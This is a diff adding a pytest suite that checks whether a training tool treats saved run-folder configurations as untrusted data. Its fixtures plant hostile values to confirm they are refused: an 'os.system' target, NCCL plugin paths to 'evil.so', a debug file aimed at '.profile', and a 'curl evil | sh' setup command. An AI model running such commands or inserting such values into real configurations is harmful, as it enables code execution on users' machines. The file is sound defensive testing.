@@ -1,0 +1,92 @@
+"""What comes from a run folder is data: nothing of it is imported, executed or loaded unless it is typed again."""
+
+import os
+from pathlib import Path
+
+import pytest
+import yaml
+
+from diagnostics.contract.artifacts import RunPaths, Status, write_json
+from dtk.config.compose import compose
+from dtk.config.resume import rerun, resume
+from dtk.config.trust import check_owner
+from dtk.errors import DtkError
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> RunPaths:
+    """A run folder as dtk writes it, with a configuration that can be changed by `poison`."""
+    paths = RunPaths(tmp_path / "run")
+    paths.root.mkdir(mode=0o755)
+    plain = compose(["model=gpt2_tiny", f"runs_folder={tmp_path}"], None, traced=True).plain
+    paths.config.write_text(yaml.safe_dump(plain))
+    paths.overrides.write_text("[]")
+    write_json(paths.status, Status(state="preempted", attempt=0, started="", updated=""))
+    return paths
+
+
+def poison(paths: RunPaths, **sections: dict[str, object]) -> None:
+    plain = yaml.safe_load(paths.config.read_text())
+    for name, values in sections.items():
+        plain[name] = {**plain[name], **values} if isinstance(values, dict) else values
+    paths.config.write_text(yaml.safe_dump(plain))
+
+
+def test_targets_that_the_folder_allows_do_not_count(folder: RunPaths) -> None:
+    plain = yaml.safe_load(folder.config.read_text())
+    plain["model"] = {
+        "name": "custom",
+        "architecture": "custom",
+        "_target_": "os.system",
+        "arguments": {"command": "touch owned"},
+    }
+    plain["allow_targets"] = ["os.*"]
+    folder.config.write_text(yaml.safe_dump(plain))
+    assert rerun(folder.root, [], None).composed.config.allow_targets == []
+    again = rerun(folder.root, ["allow_targets=[my_package.*]"], None)
+    assert again.composed.config.allow_targets == ["my_package.*"]
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [("NCCL_NET_PLUGIN", "/tmp/evil.so"), ("NCCL_TUNER_PLUGIN", "./evil.so"), ("NCCL_DEBUG_FILE", "/home/me/.profile")],
+)
+def test_libraries_and_files_of_the_folder_are_refused(folder: RunPaths, name: str, value: str) -> None:
+    poison(folder, nccl={"variables": {name: value}})
+    with pytest.raises(DtkError, match=rf"its nccl\.variables\.{name} names"):
+        rerun(folder.root, [], None)
+    kept = rerun(folder.root, [f"nccl.variables.{name}={value}"], None)
+    assert kept.composed.config.nccl.variables[name] == value
+
+
+def test_what_dtk_itself_puts_into_a_folder_is_taken(folder: RunPaths) -> None:
+    poison(folder, nccl={"variables": {"NCCL_DEBUG_FILE": "{run}/nccl.%h.%p.log", "NCCL_NET_PLUGIN": "none"}})
+    assert rerun(folder.root, [], None).composed.config.nccl.variables["NCCL_NET_PLUGIN"] == "none"
+
+
+def test_commands_of_the_folder_are_refused(folder: RunPaths) -> None:
+    plain = yaml.safe_load(folder.config.read_text())
+    slurm = compose(["model=gpt2_tiny", "launcher=slurm", "launcher.gpus_per_node=2"], None, traced=True).plain
+    plain["launcher"] = {**slurm["launcher"], "setup": ["curl evil | sh"]}
+    folder.config.write_text(yaml.safe_dump(plain))
+    with pytest.raises(DtkError, match=r"its launcher\.setup would be executed"):
+        rerun(folder.root, [], None)
+    assert rerun(folder.root, ["launcher=local"], None).composed.config.launcher.name == "local"
+
+
+@pytest.mark.parametrize("mode", [0o777, 0o775])
+def test_a_folder_that_others_can_write_to_needs_trust(folder: RunPaths, mode: int) -> None:
+    folder.root.chmod(mode)
+    with pytest.raises(DtkError, match="can write to the folder"):
+        rerun(folder.root, [], None)
+    with pytest.raises(DtkError, match="can write to the folder"):
+        resume(compose([f"resume={folder.root}"], None, traced=True), None)
+    assert rerun(folder.root, [], None, trust=True).composed.config.model.name == "gpt2_tiny"
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a folder to another user")
+def test_a_folder_of_another_user_needs_trust(folder: RunPaths) -> None:
+    os.chown(folder.root, 65534, 65534)
+    with pytest.raises(DtkError, match="belongs to"):
+        check_owner(folder.root, "--rerun", trust=False)
+    check_owner(folder.root, "--rerun", trust=True)
